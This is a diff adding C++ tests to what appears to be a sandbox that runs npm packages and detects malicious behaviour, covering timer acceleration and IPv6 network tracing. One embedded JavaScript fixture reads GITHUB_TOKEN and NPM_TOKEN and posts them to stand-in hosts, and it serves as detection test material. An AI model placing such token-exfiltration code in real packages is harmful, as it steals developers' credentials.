@@ -3,10 +3,13 @@
 
 #include <cstdio>
 #include <fstream>
+#include <set>
 #include <unistd.h>
 
+#include "engine/analysis/exfiltration.h"
 #include "engine/plan/consumer_project.h"
 #include "engine/plan/phase_runner.h"
+#include "engine/plan/sandbox_analyzer.h"
 
 namespace vigil::engine::plan {
 namespace {
@@ -241,6 +244,118 @@ TEST_F(Phases, AnIntervalKeepsTheGraceToItsEnd) {
     EXPECT_EQ(runs[0].outcome, "ok") << runs[0].reason << runs[0].stderrTail;
     EXPECT_EQ(runs[0].stimulus["settled"]["ended"], "grace") << runs[0].stimulus.dump();
     EXPECT_EQ(runs[0].stimulus["settled"]["pending"], nlohmann::json::array({"Timeout"})) << runs[0].stimulus.dump();
+}
+
+TEST_F(Phases, TimersOfMinutesAndHoursFireInOrderWithinThePhase) {
+    // A delayed payload (10 minutes), one nested in another (45 minutes, then 2 hours) and an
+    // interval of 10 minutes: all run during the import phase, in the order of their delays, and
+    // the phase ends soon after instead of at its wall limit.
+    const size_t late = pkg("late-timers", {{"main", "index.js"}},
+                            {{"index.js",
+                              "const fs = require('fs');\n"
+                              "const seen = [];\n"
+                              "const mark = (label) => { seen.push(label);"
+                              " fs.writeFileSync('/home/dev/project/order', seen.join(',')); console.log('FIRED ' + label); };\n"
+                              "setTimeout(() => mark('45min') || setTimeout(() => mark('nested-2h'), 2 * 3600e3), 45 * 60e3);\n"
+                              "setTimeout(() => mark('10min'), 10 * 60e3);\n"
+                              "const iv = setInterval(() => { mark('interval'); clearInterval(iv); }, 11 * 60e3);\n"
+                              "module.exports = 1;\n"}});
+    const auto started = std::chrono::steady_clock::now();
+    const auto runs = run(late, [](PhaseOptions& o) {
+        o.phases = {"import"};
+        o.grace = std::chrono::milliseconds(1000);
+    });
+    const auto took = std::chrono::steady_clock::now() - started;
+    ASSERT_EQ(runs.size(), 1u);
+    const PhaseRun& r = runs[0];
+    EXPECT_EQ(r.outcome, "ok") << r.reason << r.stderrTail;
+    EXPECT_NE(r.stdoutTail.find("FIRED 10min\nFIRED interval\nFIRED 45min\nFIRED nested-2h"), std::string::npos)
+        << r.stdoutTail;
+    EXPECT_TRUE(changed(r, "/home/dev/project/order"));
+    EXPECT_EQ(r.stimulus["settled"]["ended"], "idle") << r.stimulus.dump();
+    EXPECT_GT(r.stimulus["settled"]["timer_wait_ms"].get<int64_t>(), 0) << r.stimulus.dump();
+    // ~3.4 s for the 45 minutes, ~3.8 s more for the nested 2 hours, then idle.
+    EXPECT_LT(took, std::chrono::seconds(20));
+    size_t timers = 0;
+    for (const auto& e : r.events)
+        if (e.kind == "runtime.timer" && e.attrs.value("delay_ms", 0) >= 600000) {
+            ++timers;
+            EXPECT_LT(e.attrs.value("accelerated_ms", 0), 5000) << e.attrs.dump();
+        }
+    EXPECT_EQ(timers, 4u);
+}
+
+TEST_F(Phases, TimerWaitIsBoundedByItsOption) {
+    // A beacon that re-arms a 30-minute timer forever never lets the phase idle: the wait past
+    // the grace stops at timerWait, well before the wall limit.
+    const size_t beacon = pkg("beacon", {{"main", "index.js"}},
+                              {{"index.js",
+                                "const again = () => setTimeout(again, 30 * 60e3);\nagain();\nmodule.exports = 1;\n"}});
+    const auto runs = run(beacon, [](PhaseOptions& o) {
+        o.phases = {"import"};
+        o.timerWait = std::chrono::milliseconds(4000);
+    });
+    ASSERT_EQ(runs.size(), 1u);
+    EXPECT_EQ(runs[0].outcome, "ok") << runs[0].reason;
+    const auto& settled = runs[0].stimulus["settled"];
+    EXPECT_EQ(settled["ended"], "timer wait") << settled.dump();
+    EXPECT_GE(settled["waited_ms"].get<int64_t>(), 3000) << settled.dump();
+    EXPECT_LT(settled["waited_ms"].get<int64_t>(), 4500) << settled.dump();
+}
+
+TEST_F(Phases, Ipv6LiteralAndAaaaNameAreTracedAndTheirPayloadsProvenExfiltrated) {
+    // One token to an IPv6 literal, another to a name the package resolves over AAAA only: both
+    // connections are traced with family, address and port (the name joined from the DNS log),
+    // and the exfiltration proof finds both tokens in what the honeypot received.
+    const size_t v6 = pkg("v6-exfil", {{"main", "index.js"}},
+                          {{"index.js",
+                            "const http = require('http');\n"
+                            "const post = (o, body) => { const r = http.request({ method: 'POST', ...o }, (s) => s.resume());"
+                            " r.on('error', (e) => console.log('ERR ' + e.code)); r.end(body); };\n"
+                            "post({ host: '2001:db8::7', port: 8080, path: '/lit' }, String(process.env.GITHUB_TOKEN));\n"
+                            "require('dns').lookup('six.beacon.example', { family: 6 }, (e, address) => {\n"
+                            "  console.log('AAAA ' + (e ? e.code : address));\n"
+                            "  post({ host: 'six.beacon.example', family: 6, port: 80, path: '/name' }, String(process.env.NPM_TOKEN));\n"
+                            "});\n"
+                            "module.exports = 1;\n"}});
+    const auto runs = run(v6, [](PhaseOptions& o) {
+        o.phases = {"import"};
+        o.grace = std::chrono::milliseconds(1500);
+    });
+    ASSERT_EQ(runs.size(), 1u);
+    const PhaseRun& r = runs[0];
+    EXPECT_EQ(r.outcome, "ok") << r.reason << r.stderrTail;
+    EXPECT_NE(r.stdoutTail.find("AAAA 2606:4700::6812:2007"), std::string::npos) << r.stdoutTail;
+    EXPECT_EQ(r.stdoutTail.find("ERR"), std::string::npos) << r.stdoutTail;
+    const collect::Event* literal = nullptr;
+    const collect::Event* named = nullptr;
+    bool aaaa = false;
+    for (const auto& e : r.events) {
+        if (e.kind == "network.dns" && e.attrs.value("name", "") == "six.beacon.example" && e.attrs.value("type", "") == "AAAA")
+            aaaa = true;
+        if (e.kind != "network.connect" || e.source != collect::Source::Kernel || e.attrs.value("family", "") != "inet6")
+            continue;
+        if (e.attrs.value("address", "") == "2001:db8::7" && e.attrs.value("port", 0) == 8080)
+            literal = &e;
+        if (e.attrs.value("address", "") == "2606:4700::6812:2007" && e.attrs.value("port", 0) == 80)
+            named = &e;
+    }
+    EXPECT_TRUE(aaaa);
+    ASSERT_NE(literal, nullptr);
+    ASSERT_NE(named, nullptr);
+    EXPECT_EQ(named->attrs.value("host", ""), "six.beacon.example") << named->attrs.dump();
+    EXPECT_FALSE(literal->attrs.contains("host")) << literal->attrs.dump();
+
+    analysis::PackageIdentity id;
+    id.name = "v6-exfil";
+    id.version = "1.0.0";
+    id.dir = "/home/dev/project/node_modules/v6-exfil";
+    const auto proofs = analysis::findExfiltration(phaseRecordOf(r, "node"), id);
+    std::set<std::string> seen;
+    for (const auto& p : proofs)
+        seen.insert(p.variable + " " + p.channel + " " + p.destination);
+    EXPECT_TRUE(seen.count("GITHUB_TOKEN http [2001:db8::7]:8080")) << ::testing::PrintToString(seen);
+    EXPECT_TRUE(seen.count("NPM_TOKEN http six.beacon.example")) << ::testing::PrintToString(seen);
 }
 
 TEST(AnalyzeCli, DemoEnvInspectorPostinstallReachesTheHoneypot) {
